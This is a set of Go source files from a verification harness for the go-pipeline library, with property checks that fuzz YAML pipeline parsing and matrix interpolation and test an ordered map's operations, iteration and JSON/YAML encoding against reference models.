					case 2:
						b.WriteString(c12NearMisses[r.IntN(len(c12NearMisses))])
					default:
						b.WriteString("txt")
					}
				}
				return fmt.Sprintf("%s#%d", b.String(), uid)
			}
			// the anchored value: a mapping, a sequence or a scalar, flow style
			var anchored func(depth int) string
			anchored = func(depth int) string {
				switch x := r.IntN(5); {
				case x == 0 && depth < 2:
					parts := []string{}
					for k, n := 0, 1+r.IntN(3); k < n; k++ {
						parts = append(parts, anchored(depth+1))
					}
					return "[" + strings.Join(parts, ", ") + "]"
				case x <= 2 && depth < 2:
					parts := []string{}
					for k, n := 0, 1+r.IntN(3); k < n; k++ {
						parts = append(parts, q(str())+": "+anchored(depth+1))
					}
					return "{" + strings.Join(parts, ", ") + "}"
				}
				return q(str())
			}
			nAnchors := 1 + r.IntN(2)
			anchorText := make([]string, nAnchors)
			for a := range anchorText {
				anchorText[a] = anchored(0)
				if anchorText[a][0] == '"' && r.IntN(2) == 0 {
					anchorText[a] = "{" + q(str()) + ": " + anchorText[a] + "}"
				}
			}
			defined := make([]bool, nAnchors)
			use := func(a int) string {
				if !defined[a] {
					defined[a] = true
					return fmt.Sprintf("&anc%d %s", a, anchorText[a])
				}
				return fmt.Sprintf("*anc%d", a)
			}
			var b strings.Builder
			if mix(i, 3, 3) == 0 {
				// defined once at the top level: every use inside a step is an alias
				for a := 0; a < nAnchors; a++ {
					fmt.Fprintf(&b, "shared%d: %s\n", a, use(a))
				}
			}
			b.WriteString("steps:\n")
			nSteps := 1 + r.IntN(4)
			perms := make([]map[string]string, nSteps)
			aliasUses := 0
			for s := 0; s < nSteps; s++ {
				perm := map[string]string{}
				for _, d := range dims {
					perm[d] = c12Value(r)
				}
				if !anon && r.IntN(3) == 0 {
					// a value that is itself the token of another dimension: a second pass would show
					perm[dims[0]] = "{{matrix." + dims[1] + "}}"
					if strings.Contains(perm[dims[1]], "{{") {
						perm[dims[1]] = "arm64"
					}
				}
				perms[s] = perm
				fmt.Fprintf(&b, "  - command: %s\n", q(str()))
				if r.IntN(2) == 0 {
					fmt.Fprintf(&b, "    label: %s\n", q(str()))
				}
				if r.IntN(3) == 0 {
					fmt.Fprintf(&b, "    env: {N%d: %s}\n", s, q(str()))
				}
				if anon {
					fmt.Fprintf(&b, "    matrix: [\"other\", %s]\n", q(perm[""]))
				} else {
					b.WriteString("    matrix:\n      setup:\n")
					for _, d := range dims {
						fmt.Fprintf(&b, "        %s: [\"other\", %s]\n", q(d), q(perm[d]))
					}
				}
				for k, n := 0, 1+r.IntN(3); k < n; k++ {
					u := use(r.IntN(nAnchors))
					if u[0] == '*' {
						aliasUses++
					}
					fmt.Fprintf(&b, "    %s: %s\n", []string{"agents", "artifact_paths", "extra", "retry"}[k]+fmt.Sprint(s), u)
				}
				if r.IntN(3) == 0 {
					fmt.Fprintf(&b, "    own%d: %s\n", s, anchored(1))
				}
			}
			text := b.String()
			p0, err := parseText(text)
			if err != nil {
				c.Count("parsed_documents_rejected", 1)
				return
			}
			p1, _ := parseText(text)
			c.Eval(1)
			c.Feature("parsed", nSteps, nAnchors, min(aliasUses, 6), anon, len(dims))
			c.Count("alias_uses_in_unknown_fields", aliasUses)
			if len(p0.Steps) != nSteps || len(p1.Steps) != nSteps {
				c.Violation(id, map[string]any{"what": "parsed document does not have the steps that were written", "document": text})
				return
			}
			want := make([]map[string]any, nSteps)
			order := r.Perm(nSteps)
			for _, s := range order {
				st0, ok0 := p0.Steps[s].(*pipeline.CommandStep)
				st1, ok1 := p1.Steps[s].(*pipeline.CommandStep)
				if !ok0 || !ok1 {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("step %d was not parsed as a command step", s), "document": text})
					return
				}
				before, err := c12StepTree(st0)
				if err != nil {
					c.Violation(id, map[string]any{"what": "marshalling a parsed step: " + err.Error(), "document": text})
					return
				}
				nUnknown := 0
				want[s] = c12MapJSON(before, func(x string) string {
					out, unk, _ := refmodel.MatrixTokens(x, perms[s])
					nUnknown += len(unk)
					return out
				})
				if nUnknown > 0 {
					c.Count("parsed_cases_with_unknown_dimension_token", 1)
					return
				}
				mp := pipeline.MatrixPermutation{}
				for k, v := range perms[s] {
					mp[k] = v
				}
				var ierr error
				if pi := run.Guard(func() { ierr = st1.InterpolateMatrixPermutation(mp) }); pi != nil {
					c.Violation(id, map[string]any{"what": "panic: " + pi.Value, "stack": pi.Stack, "document": text, "permutation": perms[s]})
					return
				}
				if ierr != nil {
					c.Violation(id, map[string]any{"what": "valid permutation rejected: " + ierr.Error(), "document": text, "permutation": perms[s], "step": s})
					return
				}
				got, err := c12StepTree(st1)
				if err != nil || !cmp.Equal(got, want[s]) {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("step %d of a parsed document, interpolated after %v: differs from single-pass token replacement of its own strings", s, order), "document": text, "permutation": perms[s], "diff_want_got": cmp.Diff(want[s], got)})
					return
				}
			}
			// once all steps are done, none of them has been changed by a call made on a sibling
			for _, s := range order {
				got, err := c12StepTree(p1.Steps[s].(*pipeline.CommandStep))
				if err != nil || !cmp.Equal(got, want[s]) {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("step %d of a parsed document was changed by the interpolation of a sibling (order %v)", s, order), "document": text, "permutations": perms, "diff_want_got": cmp.Diff(want[s], got)})
					return
				}
			}
			// and the pristine twin was not touched at all
			c.Count("parsed_steps_compared_with_scanner", nSteps)
			if c.WantSample() && len(text) < 1500 {
				c.Sample(map[string]any{"document": text, "permutations": perms})
			}
		})
	})
}
