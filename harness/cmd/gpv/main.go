// Command gpv runs the runtime monitors for go-pipeline, one sub-command per
// property: gpv c05 -tier quick -seed 1 -evidence ../evidence/C05.json
package main

import (
	"fmt"
	"os"
	"runtime/debug"
	"runtime/pprof"
	"sort"
	"strings"

	"verif/run"
)

var checks = map[string]func(*run.Ctx){}

// children are small jobs a check runs in a fresh process of this very binary
// ("gpv child <name>": request on stdin, JSON reply on stdout), to compare what a
// long-lived process computes with what a process without any history computes.
var children = map[string]func(in []byte) any{}

func registerChild(name string, f func(in []byte) any) { children[name] = f }

func register(id string, f func(*run.Ctx)) { checks[strings.ToLower(id)] = f }

func main() {
	if len(os.Args) < 2 {
		ids := make([]string, 0, len(checks))
		for k := range checks {
			ids = append(ids, k)
		}
		sort.Strings(ids)
		fmt.Fprintf(os.Stderr, "usage: gpv <%s> [flags]\n", strings.Join(ids, "|"))
		os.Exit(3)
	}
	id := strings.ToLower(os.Args[1])
	if id == "child" && len(os.Args) >= 3 {
		runChild(os.Args[2])
		return
	}
	f, ok := checks[id]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown check %q\n", id)
		os.Exit(3)
	}
	debug.SetGCPercent(800)
	debug.SetMaxStack(256 << 20) // a runaway recursion dies quickly instead of eating 1 GiB first
	c := run.New(strings.ToUpper(id), os.Args[2:])
	if pf := os.Getenv("GPV_CPUPROFILE"); pf != "" {
		fh, err := os.Create(pf)
		if err == nil {
			_ = pprof.StartCPUProfile(fh)
			run.AtExit = pprof.StopCPUProfile
		}
	}
	f(c)
}
