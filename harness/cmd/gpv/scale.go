package main

import (
	"fmt"
	"math/rand/v2"

	"verif/doc"
)

// bigStepsDoc builds a pipeline document with n steps whose text runs to
// about bytesPerStep*n bytes: command steps (with a label and an unknown
// extra key), wait scalars, block steps, and - when unknownEvery > 0 - steps
// of no known kind. The tree is the plain form the document stands for.
func bigStepsDoc(r *rand.Rand, n, pad, unknownEvery int) *doc.Node {
	steps := make([]*doc.Node, 0, n)
	for i := 0; i < n; i++ {
		switch {
		case unknownEvery > 0 && i%unknownEvery == unknownEvery-1:
			if i%2 == 0 {
				steps = append(steps, doc.M(doc.P(fmt.Sprintf("zz_unknown_%d", i), doc.I(int64(i)))))
			} else {
				steps = append(steps, doc.M(doc.P("type", doc.S(fmt.Sprintf("future-kind-%d", i))), doc.P("n", doc.I(int64(i)))))
			}
		case i%53 == 52:
			steps = append(steps, doc.S("wait"))
		case i%97 == 96:
			steps = append(steps, doc.M(doc.P("block", doc.S(fmt.Sprintf("gate %d", i)))))
		default:
			cmd := fmt.Sprintf("echo step %d", i)
			for len(cmd) < pad {
				cmd += " x"
			}
			steps = append(steps, doc.M(doc.P("command", doc.S(cmd)), doc.P("label", doc.S(fmt.Sprintf("l%d", i))), doc.P(fmt.Sprintf("extra_%d", i%7), doc.I(int64(i)))))
		}
	}
	_ = r
	return doc.M(doc.P("steps", doc.L(steps...)))
}
