package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/buildkite/go-pipeline/ordered"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/refmodel"
	"verif/run"
)

func init() { register("C05", checkC05) }

// anyToDoc converts a value as stored in / returned by an ordered map
// (scalars, []any, *ordered.MapSA, map[string]any) into a doc tree.
func anyToDoc(v any) *doc.Node {
	switch t := v.(type) {
	case nil:
		return doc.Null()
	case bool:
		return doc.B(t)
	case int:
		return doc.I(int64(t))
	case int64:
		return doc.I(t)
	case float64:
		return doc.F(t)
	case string:
		return doc.S(t)
	case []any:
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for _, e := range t {
			n.Seq = append(n.Seq, anyToDoc(e))
		}
		return n
	case []string:
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for _, e := range t {
			n.Seq = append(n.Seq, doc.S(e))
		}
		return n
	case *ordered.MapSA:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		if t != nil {
			_ = t.Range(func(k string, v any) error {
				n.Map = append(n.Map, doc.P(k, anyToDoc(v)))
				return nil
			})
		}
		return n
	case *ordered.MapSS:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		if t != nil {
			_ = t.Range(func(k string, v string) error {
				n.Map = append(n.Map, doc.P(k, doc.S(v)))
				return nil
			})
		}
		return n
	case map[string]any:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		keys := make([]string, 0, len(t))
		for k := range t {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			n.Map = append(n.Map, doc.P(k, anyToDoc(t[k])))
		}
		return n
	case map[string]string:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		keys := make([]string, 0, len(t))
		for k := range t {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			n.Map = append(n.Map, doc.P(k, doc.S(t[k])))
		}
		return n
	case *doc.Node:
		return t
	case time.Time:
		return doc.T(t.Format(time.RFC3339Nano), t)
	case uint64:
		return doc.F(float64(t))
	case *string:
		if t == nil {
			return doc.Null()
		}
		return doc.S(*t)
	}
	return doc.S(fmt.Sprintf("<unsupported %T>", v))
}

// docToAny builds the value go-pipeline would hold for a plain doc tree:
// *ordered.MapSA for mappings, []any for sequences.
func docToAny(n *doc.Node) any {
	switch n.Kind {
	case doc.KNull:
		return nil
	case doc.KBool:
		return n.Bool
	case doc.KInt:
		return int(n.Int)
	case doc.KFloat:
		return n.Float
	case doc.KStr:
		return n.Str
	case doc.KTime:
		return n.Time
	case doc.KSeq:
		out := make([]any, 0, len(n.Seq))
		for _, e := range n.Seq {
			out = append(out, docToAny(e))
		}
		return out
	case doc.KMap:
		m := ordered.NewMap[string, any](len(n.Map))
		for _, p := range n.Map {
			m.Set(p.Key, docToAny(p.Val))
		}
		return m
	}
	return nil
}

// omKind describes the value type under test.
type omKind[V any] struct {
	name  string
	toDoc func(V) *doc.Node
	mkVal func(r *rand.Rand, serial int) V
}

var kindSA = omKind[any]{
	name:  "MapSA",
	toDoc: func(v any) *doc.Node { return anyToDoc(v) },
	mkVal: func(r *rand.Rand, serial int) any {
		switch r.IntN(8) {
		case 0:
			return nil
		case 1:
			return serial
		case 2:
			return r.IntN(2) == 0
		case 3:
			return float64(serial) + 0.5
		case 4:
			return []any{serial, "s", nil, []any{}}
		case 5:
			inner := ordered.NewMap[string, any](2)
			inner.Set("z", serial)
			inner.Set("a", []any{"x", ordered.MapFromItems(ordered.TupleSA{Key: "deep", Value: fmt.Sprint(serial)})})
			if r.IntN(2) == 0 { // nested map carrying a tombstone
				inner.Set("gone", 1)
				inner.Set("gone2", 1)
				inner.Set("gone3", 1)
				inner.Replace("gone", "a", 7)
			}
			return inner
		}
		return fmt.Sprintf("v%d", serial)
	},
}

var kindSS = omKind[string]{
	name:  "MapSS",
	toDoc: func(v string) *doc.Node { return doc.S(v) },
	mkVal: func(r *rand.Rand, serial int) string {
		if r.IntN(6) == 0 {
			return []string{"", "true", "1", "~", "a: b", "x\ny", "'", "é😀"}[r.IntN(8)]
		}
		return fmt.Sprintf("v%d", serial)
	},
}

func modelDoc[V any](k omKind[V], p *refmodel.PairList[V]) *doc.Node {
	n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	for _, it := range p.Items {
		n.Map = append(n.Map, doc.P(it.Key, k.toDoc(it.Val)))
	}
	return n
}

var strictOrdered = doc.EqOpts{Ordered: true}

func valEq[V any](k omKind[V], a, b V) bool {
	return doc.Equal(k.toDoc(a), k.toDoc(b), strictOrdered) == ""
}

func modelsEqual[V any](k omKind[V], a, b *refmodel.PairList[V]) bool {
	return doc.Equal(modelDoc(k, a), modelDoc(k, b), strictOrdered) == ""
}

var errStop = errors.New("stop")

// observe compares every observer of m with the model. full=false skips the
// encoders (used between full observations on very long histories).
func observe[V any](c *run.Ctx, k omKind[V], m *ordered.Map[string, V], p *refmodel.PairList[V], alphabet []string, full bool, r *rand.Rand) string {
	c.Count("observer_comparisons", 1)
	if m.Len() != p.Len() {
		return fmt.Sprintf("Len=%d, model %d", m.Len(), p.Len())
	}
	if m.IsZero() != (p.Len() == 0) {
		return fmt.Sprintf("IsZero=%v, model len %d", m.IsZero(), p.Len())
	}
	if m != nil {
		if _, _, _, ok := m.VerifState(); !ok {
			return fmt.Sprintf("invariant hook: index and slots disagree: slots=%v index=%v", m.VerifSlots(), m.VerifIndex())
		}
	}
	probe := alphabet
	if !full && len(alphabet) > 8 {
		probe = make([]string, 0, 8)
		for i := 0; i < 8; i++ {
			probe = append(probe, alphabet[r.IntN(len(alphabet))])
		}
	}
	for _, key := range append(append([]string{}, probe...), "\x00never") {
		v, ok := m.Get(key)
		mv, mok := p.Get(key)
		if ok != mok {
			return fmt.Sprintf("Get(%q) found=%v, model %v", key, ok, mok)
		}
		if ok && !valEq(k, v, mv) {
			return fmt.Sprintf("Get(%q)=%v, model %v", key, k.toDoc(v), k.toDoc(mv))
		}
		if m.Contains(key) != mok {
			return fmt.Sprintf("Contains(%q)=%v, model %v", key, m.Contains(key), mok)
		}
	}
	// Range: full sequence.
	i := 0
	var bad string
	if m != nil || true {
		err := rangeSafe(m, func(key string, v V) error {
			if i >= len(p.Items) {
				bad = fmt.Sprintf("Range yields extra pair %q", key)
				return errStop
			}
			if key != p.Items[i].Key || !valEq(k, v, p.Items[i].Val) {
				bad = fmt.Sprintf("Range pair #%d = (%q,%v), model (%q,%v)", i, key, k.toDoc(v), p.Items[i].Key, k.toDoc(p.Items[i].Val))
				return errStop
			}
			i++
			return nil
		})
		if bad != "" {
			return bad
		}
		if err != nil {
			return fmt.Sprintf("Range returned %v without the callback failing", err)
		}
		if i != len(p.Items) {
			return fmt.Sprintf("Range yielded %d pairs, model %d", i, len(p.Items))
		}
		// Early exit.
		if len(p.Items) > 0 {
			stopAt := r.IntN(len(p.Items))
			seen := 0
			err := rangeSafe(m, func(string, V) error {
				if seen == stopAt {
					seen++
					return errStop
				}
				seen++
				return nil
			})
			if err != errStop || seen != stopAt+1 {
				return fmt.Sprintf("Range early exit at %d: err=%v visited=%d", stopAt, err, seen)
			}
		}
	}
	if !full {
		return ""
	}
	want := modelDoc(k, p)
	// ToMap.
	tm := m.ToMap()
	if m == nil {
		if tm != nil {
			return "ToMap of nil map is not nil"
		}
	} else {
		if len(tm) != p.Len() {
			return fmt.Sprintf("ToMap has %d entries, model %d", len(tm), p.Len())
		}
		for _, it := range p.Items {
			v, ok := tm[it.Key]
			if !ok || !valEq(k, v, it.Val) {
				return fmt.Sprintf("ToMap[%q]=%v,%v model %v", it.Key, v, ok, k.toDoc(it.Val))
			}
		}
	}
	if sa, ok := any(m).(*ordered.MapSA); ok && sa != nil {
		rec := ordered.ToMapRecursive(sa)
		if d := doc.Equal(anyToDoc(rec), want, doc.EqOpts{}); d != "" {
			return "ToMapRecursive: " + d
		}
		if hasOrderedMap(rec) {
			return "ToMapRecursive result still contains an ordered map"
		}
	}
	if m == nil {
		return ""
	}
	// JSON.
	jb, err := m.MarshalJSON()
	if err != nil {
		return "MarshalJSON: " + err.Error()
	}
	jn, err := doc.FromJSON(jb)
	if err != nil {
		return fmt.Sprintf("MarshalJSON output unreadable: %v: %s", err, jb)
	}
	if d := doc.Equal(jn, want, doc.LooseOrdered); d != "" {
		return fmt.Sprintf("MarshalJSON: %s: %s", d, jb)
	}
	jb2, err := json.Marshal(m)
	if err != nil {
		return "json.Marshal: " + err.Error()
	}
	jn2, err := doc.FromJSON(jb2)
	if err != nil {
		return fmt.Sprintf("json.Marshal output unreadable: %v: %s", err, jb2)
	}
	if d := doc.Equal(jn2, want, doc.LooseOrdered); d != "" {
		return fmt.Sprintf("json.Marshal: %s: %s", d, jb2)
	}
	// YAML.
	yv, err := m.MarshalYAML()
	if err != nil {
		return "MarshalYAML: " + err.Error()
	}
	yn, ok := yv.(*yaml.Node)
	if !ok {
		return fmt.Sprintf("MarshalYAML returned %T", yv)
	}
	yd, err := doc.FromYAMLNode(yn)
	if err != nil {
		return "MarshalYAML node unreadable: " + err.Error()
	}
	if d := doc.Equal(yd, want, doc.LooseOrdered); d != "" {
		return "MarshalYAML: " + d
	}
	yb, err := yaml.Marshal(m)
	if err != nil {
		return "yaml.Marshal: " + err.Error()
	}
	yd2, err := doc.FromYAML(yb)
	if err != nil {
		return fmt.Sprintf("yaml.Marshal output unreadable: %v: %s", err, yb)
	}
	if d := doc.Equal(yd2, want, doc.LooseOrdered); d != "" {
		return fmt.Sprintf("yaml.Marshal: %s: %s", d, yb)
	}
	// Equality: reflexive, and against a tombstone-free twin built from the model.
	if !ordered.Equal(m, m) {
		return "Equal(m, m) is false"
	}
	items := make([]ordered.Tuple[string, V], 0, p.Len())
	for _, it := range p.Items {
		items = append(items, ordered.Tuple[string, V]{Key: it.Key, Value: it.Val})
	}
	twin := ordered.MapFromItems(items...)
	if !ordered.Equal(m, twin) || !ordered.Equal(twin, m) {
		return "Equal against an independently built map with the same pairs is false"
	}
	c.Count("equal_pairs_equal", 2)
	// Perturbed twins must be unequal in both argument orders.
	if len(items) > 0 {
		j := r.IntN(len(items))
		pert := append([]ordered.Tuple[string, V](nil), items...)
		what := ""
		switch r.IntN(4) {
		case 0:
			pert[j].Key += "'"
			what = "one key renamed"
		case 1:
			pert = append(pert[:j:j], pert[j+1:]...)
			what = "one pair removed"
		case 2:
			pert = append(pert, ordered.Tuple[string, V]{Key: "\x00extra"})
			what = "one pair added"
		case 3:
			if len(pert) < 2 {
				pert[j].Key += "'"
				what = "one key renamed"
			} else {
				j2 := (j + 1 + r.IntN(len(pert)-1)) % len(pert)
				pert[j], pert[j2] = pert[j2], pert[j]
				what = "two pairs swapped"
			}
		}
		pm := ordered.MapFromItems(pert...)
		if ordered.Equal(m, pm) || ordered.Equal(pm, m) {
			return "Equal is true against a map with " + what
		}
		c.Count("equal_pairs_unequal", 2)
		// one value differs, everything else agrees: two "empty-looking" values of different types at one position
		if _, isAny := any(k.mkVal).(func(*rand.Rand, int) any); isAny && full {
			empties := []any{"", nil, 0, false, 0.0, []any{}, ordered.NewMap[string, any](0), "0", "false", "null"}
			x, y := r.IntN(len(empties)), r.IntN(len(empties))
			if x != y {
				a := append([]ordered.Tuple[string, V](nil), items...)
				b := append([]ordered.Tuple[string, V](nil), items...)
				a[j].Value, _ = empties[x].(V)
				b[j].Value, _ = empties[y].(V)
				am, bm := ordered.MapFromItems(a...), ordered.MapFromItems(b...)
				if ordered.Equal(am, bm) || ordered.Equal(bm, am) {
					return fmt.Sprintf("Equal is true for two maps that differ in one value only: %#v versus %#v", empties[x], empties[y])
				}
				if !ordered.Equal(am, ordered.MapFromItems(a...)) {
					return fmt.Sprintf("Equal is false for two maps built from the same pairs (value %#v)", empties[x])
				}
				c.Count("equal_pairs_one_value_of_another_type", 2)
			}
		}
	}
	return ""
}

func rangeSafe[V any](m *ordered.Map[string, V], f func(string, V) error) error {
	return m.Range(f)
}

func hasOrderedMap(v any) bool {
	switch t := v.(type) {
	case *ordered.MapSA:
		return true
	case map[string]any:
		for _, e := range t {
			if hasOrderedMap(e) {
				return true
			}
		}
	case []any:
		for _, e := range t {
			if hasOrderedMap(e) {
				return true
			}
		}
	}
	return false
}

// omOp is one operation of a history.
type omOp struct {
	Kind string // set | replace | delete | rr-id | rr-rot | rr-one | rr-fresh
	A, B string
}

func (o omOp) String() string {
	switch o.Kind {
	case "set", "delete":
		return o.Kind + "(" + o.A + ")"
	case "replace":
		return "replace(" + o.A + "->" + o.B + ")"
	}
	return o.Kind
}

// applyOp applies op to both the real map and the model. valueOf gives the
// value for the n-th value-carrying call so that both sides use the same.
// It returns a mismatch description for in-callback renames ("" if fine).
func applyOp[V any](m *ordered.Map[string, V], p *refmodel.PairList[V], op omOp, alphabet []string, nextVal func() V) string {
	switch op.Kind {
	case "set":
		v := nextVal()
		m.Set(op.A, v)
		p.Set(op.A, v)
	case "replace":
		v := nextVal()
		m.Replace(op.A, op.B, v)
		p.Replace(op.A, op.B, v)
	case "delete":
		m.Delete(op.A)
		p.Delete(op.A)
	default:
		// Rename from inside the iteration callback.
		rename := func(k string) string {
			switch op.Kind {
			case "rr-id":
				return k
			case "rr-rot":
				for i, a := range alphabet {
					if a == k {
						return alphabet[(i+1)%len(alphabet)]
					}
				}
				return k
			case "rr-one":
				return alphabet[0]
			case "rr-last":
				return alphabet[len(alphabet)-1]
			default: // rr-fresh
				return k + "'"
			}
		}
		// Expected visits: pairs present at the start, in order, skipping
		// pairs removed (by an earlier rename) before being reached.
		snap := append([]refmodel.PLItem[V](nil), p.Items...)
		vals := make([]V, 0, len(snap))
		var expVisited []string
		for _, it := range snap {
			if !p.HasID(it.ID) {
				continue
			}
			expVisited = append(expVisited, it.Key)
			v := nextVal()
			vals = append(vals, v)
			p.Replace(it.Key, rename(it.Key), v)
		}
		var visited []string
		err := m.Range(func(k string, _ V) error {
			var v V
			if len(visited) < len(vals) {
				v = vals[len(visited)]
			}
			visited = append(visited, k)
			if len(visited)%2 == 1 {
				// the callback may look at the map it is iterating (read-only observers, themselves iterations)
				_ = m.ToMap()
				_, _ = m.MarshalJSON()
				_ = m.Range(func(string, V) error { return nil })
			}
			m.Replace(k, rename(k), v)
			if len(visited)%2 == 0 {
				_ = m.ToMap()
				_ = m.Len()
			}
			return nil
		})
		if err != nil {
			return "Range with renaming callback returned " + err.Error()
		}
		if strings.Join(visited, "\x00") != strings.Join(expVisited, "\x00") {
			return fmt.Sprintf("%s: callback visited %q, model %q", op.Kind, visited, expVisited)
		}
	}
	return ""
}

func layoutOf[V any](m *ordered.Map[string, V]) string {
	if m == nil {
		return "<nil>"
	}
	var b strings.Builder
	for i, s := range m.VerifSlots() {
		if i > 0 {
			b.WriteByte(',')
		}
		if s.Deleted {
			b.WriteString("†")
		}
		b.WriteString(s.Key)
	}
	return b.String()
}

func histString(h []omOp) string {
	parts := make([]string, len(h))
	for i, o := range h {
		parts[i] = o.String()
	}
	return strings.Join(parts, " ")
}

func checkC05(c *run.Ctx) {
	c05Witnesses(c)
	c05Nil(c)
	c.Phase("bfs", func() { c05Exhaustive(c, kindSA) })
	c.Phase("randSA", func() { c05Random(c, kindSA, "randSA") })
	c.Phase("randSS", func() { c05Random(c, kindSS, "randSS") })
	c.Phase("largeSA", func() { c05Large(c, kindSA, "largeSA") })
	c.Phase("largeSS", func() { c05Large(c, kindSS, "largeSS") })
	c.Phase("nested-equal", func() { c05NestedEqual(c) })
	c.Phase("enc-error", func() { c05EncError(c) })
	c.Finish("exploration",
		"phase 1: breadth-first enumeration of every operation (set, replace over all old/new pairs, delete, four in-callback rename patterns over keys a,b,c) from every slot layout (key or tombstone, incl. stale tombstone keys, per slot, read through the verif hook) reachable within the history-length bound, from three kinds of empty start map; phase 2: long random histories over alphabets of 4, 16 and 200 keys with delete-heavy phases; after every operation every observer is compared with a list-of-pairs model; phase 3: maps of 1022 to 9000 keys emptied in bulk in five patterns (compactions of large storage) and written to again. distinct_nontrivial counts distinct (ordered key list, slot layout) pairs with at least one live key that were observed",
		map[string]any{"exhaustive": false},
		[]string{"values are opaque to the map, so the exhaustive phase de-duplicates on slot layouts, not on values", "Set/Replace on a nil *Map are not exercised (like writing to a nil Go map)", "Delete from inside a Range callback is not in the property's list and is not exercised"})
}

// c05Witnesses replays the witnesses of listed findings for C05.
func c05Witnesses(c *run.Ctx) {
	for _, f := range c.FindingsFor() {
		switch f.ID {
		case "F1":
			pi := run.Guard(func() {
				m := ordered.NewMap[string, string](0)
				m.Set("a", "1")
				m.Set("b", "2")
				m.Set("c", "3")
				m.Delete("c")
				if !ordered.Equal(m, m) {
					panic("Equal(m,m) false")
				}
			})
			c.Witness(f, pi != nil, "Set a,b,c; Delete c; Equal(m,m)")
		case "F7":
			m := ordered.NewMap[string, string](0)
			m.Replace("k", "k", "v")
			fails := m.Len() != 1 || !m.Contains("k")
			c.Witness(f, fails, "Replace(k,k,v) on an empty map then Len/Contains")
		}
	}
}

func c05Nil(c *run.Ctx) {
	var m *ordered.MapSA
	p := &refmodel.PairList[any]{}
	r := c.RNG("nil")
	pi := run.Guard(func() {
		if msg := observe(c, kindSA, m, p, []string{"a"}, true, r); msg != "" {
			c.Violation("nil/0", map[string]any{"what": "nil map: " + msg})
		}
		m.Delete("a")
		if msg := observe(c, kindSA, m, p, []string{"a"}, true, r); msg != "" {
			c.Violation("nil/1", map[string]any{"what": "nil map after Delete: " + msg})
		}
		var n *ordered.MapSA
		if !ordered.Equal(m, n) {
			c.Violation("nil/2", map[string]any{"what": "Equal(nil,nil) is false"})
		}
		e := ordered.NewMap[string, any](0)
		if ordered.Equal(m, e) != ordered.Equal(e, m) {
			c.Violation("nil/3", map[string]any{"what": "Equal(nil,empty) is not symmetric"})
		}
	})
	if pi != nil {
		c.Violation("nil/panic", map[string]any{"what": "panic on nil map: " + pi.Value, "stack": pi.Stack})
	}
	c.Eval(1)
}

type bfsState struct {
	hist []omOp
}

func c05Exhaustive[V any](c *run.Ctx, k omKind[V]) {
	bound := c.N(7, 9)
	alphabet := []string{"a", "b", "c"}
	var ops []omOp
	for _, a := range alphabet {
		ops = append(ops, omOp{Kind: "set", A: a})
		ops = append(ops, omOp{Kind: "delete", A: a})
		for _, b := range alphabet {
			ops = append(ops, omOp{Kind: "replace", A: a, B: b})
		}
	}
	for _, kind := range []string{"rr-id", "rr-rot", "rr-one", "rr-last"} {
		ops = append(ops, omOp{Kind: kind})
	}
	starts := map[string]func() *ordered.Map[string, V]{
		"zero":         func() *ordered.Map[string, V] { return new(ordered.Map[string, V]) },
		"NewMap":       func() *ordered.Map[string, V] { return ordered.NewMap[string, V](0) },
		"MapFromItems": func() *ordered.Map[string, V] { return ordered.MapFromItems[string, V]() },
	}
	type pooled struct {
		m *ordered.Map[string, V]
		p *refmodel.PairList[V]
	}
	var pool []pooled
	layoutsTotal := 0
	for _, startName := range []string{"zero", "NewMap", "MapFromItems"} {
		mk := starts[startName]
		build := func(h []omOp) (*ordered.Map[string, V], *refmodel.PairList[V], func() V) {
			m := mk()
			p := &refmodel.PairList[V]{}
			serial := 0
			vr := rand.New(rand.NewPCG(uint64(len(h)), 99))
			nextVal := func() V {
				serial++
				// small value domain so that equal and unequal states both occur
				return k.mkVal(vr, serial%2)
			}
			for _, o := range h {
				_ = applyOp(m, p, o, alphabet, nextVal)
			}
			return m, p, nextVal
		}
		seen := map[string]bool{"": true}
		frontier := []bfsState{{}}
		var mu sync.Mutex
		for depth := 0; depth < bound && len(frontier) > 0; depth++ {
			var next []bfsState
			var wg sync.WaitGroup
			var cursor int64
			for w := 0; w < c.Workers; w++ {
				wg.Add(1)
				go func(w int) {
					defer wg.Done()
					r := c.RNG("bfs", startName, depth, w)
					for {
						si := int(atomic.AddInt64(&cursor, 1) - 1)
						if si >= len(frontier) || c.Violations() > 20 {
							return
						}
						st := frontier[si]
						for _, op := range ops {
							m, p, nextVal := build(st.hist)
							before := layoutOf(m)
							slotsBefore, _, _, _ := m.VerifState()
							hist := append(append([]omOp(nil), st.hist...), op)
							id := fmt.Sprintf("bfs-%s/%s", startName, histString(hist))
							var msg string
							pi := run.Guard(func() {
								msg = applyOp(m, p, op, alphabet, nextVal)
								if msg == "" {
									msg = observe(c, k, m, p, append(alphabet, "a'"), true, r)
								}
							})
							c.Eval(1)
							c.Count("bfs_transitions", 1)
							if pi != nil {
								c.Violation(id, map[string]any{"what": "panic: " + pi.Value, "history": histString(hist), "layout_before": before, "stack": pi.Stack})
								continue
							}
							if msg != "" {
								c.Violation(id, map[string]any{"what": msg, "history": histString(hist), "layout_before": before, "layout_after": layoutOf(m)})
								continue
							}
							slotsAfter, _, tomb, _ := m.VerifState()
							if slotsAfter < slotsBefore {
								c.Count("compactions_observed", 1)
							}
							c.Max("max_tombstones", int64(tomb))
							lay := layoutOf(m)
							if p.Len() > 0 {
								c.Feature(startName, modelKeys(p), lay)
							}
							mu.Lock()
							if !seen[lay] {
								seen[lay] = true
								layoutsTotal++
								next = append(next, bfsState{hist: hist})
								if len(pool) < 250 {
									pool = append(pool, pooled{m, p})
								}
								if c.WantSample() && len(hist) >= 4 {
